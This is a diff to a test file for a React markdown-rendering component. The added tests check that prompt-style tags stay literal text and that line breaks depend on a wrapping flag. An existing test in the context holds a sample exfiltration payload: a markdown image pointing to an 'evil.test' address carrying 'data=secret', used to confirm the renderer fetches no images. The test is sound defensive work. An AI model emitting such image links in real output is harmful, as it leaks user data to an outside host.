@@ -19,6 +19,30 @@ describe('MarkdownText', () => {
     expect(screen.getByText('bold')).toBeInTheDocument()
   })
 
+  test('tags that part a prompt are its text, and so is what stands within them', () => {
+    const { container } = render(
+      <MarkdownText
+        text={'<rules>\nBe terse.\n</rules>\n\nSee <order>42</order>.\n\n- <b>one</b>'}
+      />,
+    )
+
+    expect([...container.querySelectorAll('p, li')].map((one) => one.textContent)).toEqual([
+      '<rules>\nBe terse.\n</rules>',
+      'See <order>42</order>.',
+      '<b>one</b>',
+    ])
+  })
+
+  test('lines stay lines, unless it is a document', () => {
+    const breaks = (isWrapped: boolean) =>
+      render(
+        <MarkdownText text={'Snow\nA **cat\nsleeps**'} isWrapped={isWrapped} />,
+      ).container.querySelectorAll('br').length
+
+    expect(breaks(false)).toBe(2)
+    expect(breaks(true)).toBe(0)
+  })
+
   test('fetches no picture: its address could carry data away', () => {
     const { container } = render(<MarkdownText text="![chart](https://evil.test/?data=secret)" />)
 
